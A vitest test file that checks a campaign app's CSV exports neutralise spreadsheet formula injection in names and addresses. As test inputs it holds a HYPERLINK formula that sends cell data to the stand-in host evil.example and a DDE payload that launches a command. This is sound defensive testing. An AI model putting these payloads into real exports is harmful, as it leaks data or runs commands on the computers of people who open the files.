import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '../../server/exports/spreadsheet-safe.js';
import { UpdateCaseDocument } from '../../dashboard/graphql/generated/admin.js';
import { CreateFacultyDocument } from '../support/generated/catalogue.js';
import { kitOrderInput, ORDER_KIT } from '../support/kit-orders.js';
import { pledgeInput, SUBMIT_PLEDGE } from '../support/pledges.js';
import { startServer, type TestServer } from '../support/server.js';
import { createTokens } from '../support/tokens.js';

/** What OWASP lists as the start of a formula in a spreadsheet. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports and spreadsheet formulas', () => {
  let sut: TestServer;
  let tokens: Awaited<ReturnType<typeof createTokens>>;
  beforeAll(async () => {
    sut = await startServer();
    tokens = await createTokens(sut);
  });
  afterAll(() => sut?.stop());

  const download = async (path: string) => {
    const response = await fetch(new URL(path, sut.url), { headers: tokens.organiser });
    expect(response.status).toBe(200);
    const text = await response.text();
    const rows = parse(text, { bom: true }) as string[][];
    // Not one cell of the file starts a formula.
    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // Every text cell is in quotes, so that no spreadsheet splits it at a tab, a semicolon or a
    // line break, whatever separator it guesses; only numbers and empty cells are bare.
    const bare: string[] = [];
    parse(text, {
      bom: true,
      cast: (value, context) => {
        if (!context.quoting && value !== '' && !/^\d+$/.test(value)) bare.push(value);
        return value;
      },
    });
    expect(bare).toEqual([]);
    return parse(text, { columns: true, bom: true }) as Record<string, string>[];
  };

  it('neutralise formulas that students typed into a kit order, and read back to the same rows with a leading apostrophe', async () => {
    const typed = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      email: '+formula@vub.be',
      line1: "+cmd|' /C calc'!A0",
      line2: '-2+3',
      city: '@SUM(1+1)',
    };
    const { data, errors } = await sut.gql(ORDER_KIT, {
      input: kitOrderInput(typed.name, typed.email, {
        kits: 1,
        delivery: { method: 'POST', address: { line1: typed.line1, line2: typed.line2, postalCode: '1050', city: typed.city } },
      }),
    });
    expect(errors).toBeUndefined();
    const rows = await download('/export/kit-orders.csv');
    expect(rows.find((row) => row.reference === data!.orderKit.reference)).toMatchObject({
      contact_name: `'${typed.name}`,
      contact_email: `'${typed.email}`,
      address_line1: `'${typed.line1}`,
      address_line2: `'${typed.line2}`,
      postal_code: '1050',
      city: `'${typed.city}`,
    });
  });

  it('neutralise formulas in names organisers entered, in the totals export', async () => {
    await sut.gql(CreateFacultyDocument, { input: { slug: 'formula-faculty', name: '=1+1' } }, tokens.organiser);
    await sut.gql(UpdateCaseDocument, { slug: 'wendy-galarza', input: { name: '@Wendy Galarza' } }, tokens.organiser);
    await sut.gql(SUBMIT_PLEDGE, { input: pledgeInput([{ case: 'wendy-galarza', appealLetters: 2, solidarityCards: 0 }], { faculty: 'formula-faculty' }) });
    const rows = await download('/export/totals.csv');
    const row = rows.find((r) => r.faculty === "'=1+1" && r.case_slug === 'wendy-galarza');
    expect(row).toMatchObject({ case: "'@Wendy Galarza", appeal_letters: '2', total: '2' });
  });

  it('neutralise and quote a name that starts with a tab or a carriage return, e.g. one stored before the one-line rule', async () => {
    await sut.gql(CreateFacultyDocument, { input: { slug: 'tab-faculty', name: 'Tab faculty' } }, tokens.organiser);
    await sut.gql(CreateFacultyDocument, { input: { slug: 'return-faculty', name: 'Return faculty' } }, tokens.organiser);
    // The API refuses tabs and line breaks in a name; a row written before that rule may hold them.
    await sut.sql(`UPDATE faculty SET name = E'\\tTab; faculty' WHERE slug = 'tab-faculty'`);
    await sut.sql(`UPDATE faculty SET name = E'\\r=1+1,"x"' WHERE slug = 'return-faculty'`);
    for (const faculty of ['tab-faculty', 'return-faculty']) {
      await sut.gql(SUBMIT_PLEDGE, { input: pledgeInput([{ case: 'zhang-zhan', appealLetters: 1, solidarityCards: 0 }], { faculty }) });
    }
    const rows = await download('/export/faculties.csv');
    expect(rows.find((row) => row.faculty_slug === 'tab-faculty')).toMatchObject({ faculty: "'\tTab; faculty" });
    expect(rows.find((row) => row.faculty_slug === 'return-faculty')).toMatchObject({ faculty: `'\r=1+1,"x"` });
  });

  it('quote a kit order whose every field starts like a formula, and give each back whole', async () => {
    const typed = { name: '@SUM(A1)', email: '-sum@vub.be', line1: '+1', line2: '=HYPERLINK("http://evil.example","Click")', city: '-1;2' };
    const { data, errors } = await sut.gql(ORDER_KIT, {
      input: kitOrderInput(typed.name, typed.email, {
        kits: 1,
        delivery: { method: 'POST', address: { line1: typed.line1, line2: typed.line2, postalCode: '1000', city: typed.city } },
      }),
    });
    expect(errors).toBeUndefined();
    const rows = await download('/export/kit-orders.csv');
    expect(rows.find((row) => row.reference === data!.orderKit.reference)).toMatchObject({
      contact_name: "'@SUM(A1)",
      contact_email: "'-sum@vub.be",
      address_line1: "'+1",
      address_line2: `'${typed.line2}`,
      city: "'-1;2",
    });
  });

  it('prefix every text cell that starts like a formula, and nothing else', () => {
    expect(['=1', '+1', '-1', '@A1', '\tx', '\rx'].map(spreadsheetSafe)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]);
    expect(['Zhang Zhan', '', 'a=b', "'quoted", 12, -3, null].map(spreadsheetSafe)).toEqual(['Zhang Zhan', '', 'a=b', "'quoted", 12, -3, null]);
  });
});
